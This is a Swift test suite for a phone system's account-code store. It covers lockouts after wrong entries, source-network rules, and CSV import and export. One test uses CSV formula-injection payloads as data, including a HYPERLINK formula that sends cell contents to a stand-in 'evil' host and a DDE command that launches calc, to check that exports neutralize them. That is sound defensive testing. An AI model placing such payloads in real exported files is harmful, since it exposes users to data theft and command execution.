import AccountCodes
import Foundation
@testable import Store
import StoreCore
import Testing

@Suite struct TollFraudStoreTests {
    /// Locks are in the store: another server on the same database sees them, and so does a
    /// server started after a restart. Each incorrect entry counts once, whoever writes it.
    @Test func locksAreSharedAndSurviveARestart() async throws {
        let path = temporaryPath()
        let one = try configuredStore(path: path)
        let two = try AcctcodesStore(path: path)
        let policy = LockoutPolicy(maxIncorrect: 4, window: 3600, firstLock: 600)
        var locks: [LockState?] = []
        for (index, store) in [one, two, one, two].enumerated() {
            locks.append(try await store.registerIncorrectEntry(account: "default", subject: .user("1001"), policy: policy,
                                                                now: 1000 + Double(index)))
        }
        #expect(locks.dropLast().allSatisfy { $0 == nil })
        #expect(locks.last == LockState(lockedAt: 1003, until: 1603, strikes: 1, count: 4))
        let restarted = try AcctcodesStore(path: path)
        #expect(try restarted.lock(account: "default", subject: .user("1001"))?.isActive(at: 1500) == true)
        #expect(try restarted.lock(account: "default", subject: .user("1002")) == nil)
        await #expect(try restarted.lockouts(account: "default", now: 1500).map(\.subject) == ["user:1001"])
        await #expect(try restarted.lockouts(account: "other", now: 1500).isEmpty, "another account sees nothing")
        #expect(try restarted.unlock(account: "default", subject: .user("1001"), now: 1500))
        await #expect(try restarted.lockouts(account: "default", now: 1500).isEmpty)
        // Forgotten: three more are not enough to lock again.
        for second in 0..<3 {
            #expect(try await one.registerIncorrectEntry(account: "default", subject: .user("1001"), policy: policy,
                                                         now: 1600 + Double(second)) == nil)
        }
    }

    @Test func entriesOutsideTheWindowDoNotCount() async throws {
        let store = try configuredStore()
        let policy = LockoutPolicy(maxIncorrect: 3, window: 60, firstLock: 600)
        for at in [0.0, 30, 100, 130] {
            #expect(try await store.registerIncorrectEntry(account: "default", subject: .user("1"), policy: policy, now: at) == nil)
        }
        #expect(try await store.registerIncorrectEntry(account: "default", subject: .user("1"), policy: policy, now: 150) != nil)
    }

    @Test func allowedSourcesAreCheckedAndBindTheAccount() throws {
        let store = try configuredStore()
        var account = try #require(try store.account("default"))
        account.allowedSources = ["10.1.2.0/24", "nonsense"]
        #expect(throws: StoreError.rule(.badSource("nonsense"))) { try store.saveAccount(account) }
        account.allowedSources = ["10.1.2.0/24", "2001:db8::1"]
        try store.saveAccount(account)
        #expect(try store.account("default")?.allowedSources == ["10.1.2.0/24", "2001:db8::1/128"])
        let inside = NetworkBlock.addressBytes("10.1.2.9"), outside = NetworkBlock.addressBytes("127.0.0.1")
        #expect(try store.admission(account: "default", source: inside) == .admitted)
        #expect(try store.admission(account: "default", source: outside) == .refused(.sourceNotAllowed))
        #expect(try store.admission(account: "nobody", source: inside) == .refused(.sourceNotAllowed), "the source first")
        account.allowedSources = []
        try store.saveAccount(account)
        #expect(try store.admission(account: "nobody", source: outside) == .refused(.unknownAccount))
        #expect(try store.admission(account: "default", source: outside) == .admitted)
    }

    @Test func unknownCallersCanOnlyBeTreatedAsAGroupThatExists() throws {
        let store = try configuredStore()
        var account = try #require(try store.account("default"))
        account.unknownCallers = .group("lobby")
        #expect(throws: StoreError.rule(.unknownGroupForUnknownCallers("lobby"))) { try store.saveAccount(account) }
        try store.saveGroup(SettingsGroup(accountID: "default", name: "lobby"), create: true)
        try store.saveAccount(account)
        let setup = try store.callSetup(account: "default", user: "5550100", dialed: "0114420794600")
        #expect(setup.caller == .unknown(.group("lobby")) && setup.group?.name == "lobby")
        #expect(setup.lockSubject == .device(""))
    }

    /// OWASP's rule in every export; our own imports take the guard off again.
    @Test func exportsNeutralizeFormulasAndImportsRestoreThem() throws {
        let store = try configuredStore()
        let hostile = [#"=HYPERLINK("http://evil/?"&A1,"x")"#, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
        for (index, description) in hostile.enumerated() {
            try store.addCode(AccountCode(accountID: "default", code: "100\(index)", description: description))
        }
        var user = User(accountID: "default", extensionNumber: "1001")
        user.name = "=1+1"
        try store.saveUser(user, create: true)
        let codes = try store.exportCodes(account: "default")
        for row in try CSV.parse(codes).dropFirst() {
            #expect(row.fields[1].hasPrefix("'"), "unguarded: \(row.fields[1].debugDescription)")
        }
        #expect(try CSV.parse(try store.exportUsers(account: "default"))[1].fields[1] == "'=1+1")
        // Phone numbers are data, not formulas: kept as they are.
        #expect(CSV.neutralized("+442079460000") == "+442079460000")
        #expect(CSV.neutralized("+44 20") == "'+44 20")
        #expect(CSV.neutralized("plain") == "plain")
        // Round trip: the file imports back to the same descriptions.
        #expect(try store.importCodes(account: "default", csv: codes) == .init(added: 0, updated: hostile.count))
        #expect(try store.codes(account: "default").map(\.description) == hostile)
    }

    @Test func importsTakeABOMAndRefuseWhatIsNotUTF8WithItsLine() throws {
        let bom: [UInt8] = [0xEF, 0xBB, 0xBF]
        #expect(try CSV.decode(bom + Array("code,description,active\n".utf8)) == "code,description,active\n")
        let latin1 = Array("code,description,active\n1234,ok,1\n5678,Mu".utf8) + [0xF1] + Array("oz,1\n".utf8)
        #expect(throws: CSV.ParseError(line: 3, message: "not UTF-8 text (save the file as UTF-8 CSV)")) { try CSV.decode(latin1) }
    }

    @Test func codeLimitsRoundTripThroughCSV() throws {
        let store = try configuredStore()
        try store.saveGroup(SettingsGroup(accountID: "default", name: "partners"), create: true)
        let csv = """
            code,description,active,users,groups,level,valid_from,valid_until
            1234,Acme,1,1001 1002,partners,national,2026-01-01,2026-12-31
            5678,Globex,1,,,,,
            9999,Bad,1,,,galactic,,
            8888,Bad,1,,,,2026-12-31,2026-01-01

            """
        #expect(throws: StoreError.importRejected([
            "line 4: level must be internal, local, national or international, not \"galactic\"",
            "line 5: valid-from 2026-12-31 is after valid-until 2026-01-01",
        ])) { try store.importCodes(account: "default", csv: csv) }
        let good = csv.split(separator: "\n").prefix(3).joined(separator: "\n") + "\n"
        _ = try store.importCodes(account: "default", csv: good)
        let code = try #require(try store.code(account: "default", code: "1234"))
        #expect(code.users == ["1001", "1002"] && code.groups == ["partners"] && code.level == .national)
        #expect(code.validFrom == "2026-01-01" && code.validUntil == "2026-12-31")
        #expect(try store.exportCodes(account: "default") == good.replacingOccurrences(of: "1001 1002", with: "1001 1002"))
        #expect(try store.codeFacts(account: "default", code: "1234") == code.facts)
        // An earlier version's 3-column file leaves the limits alone.
        _ = try store.importCodes(account: "default", csv: "code,description,active\n1234,Acme Corp,1\n")
        #expect(try store.code(account: "default", code: "1234")?.level == .national)
        #expect(try store.code(account: "default", code: "1234")?.description == "Acme Corp")
    }
}
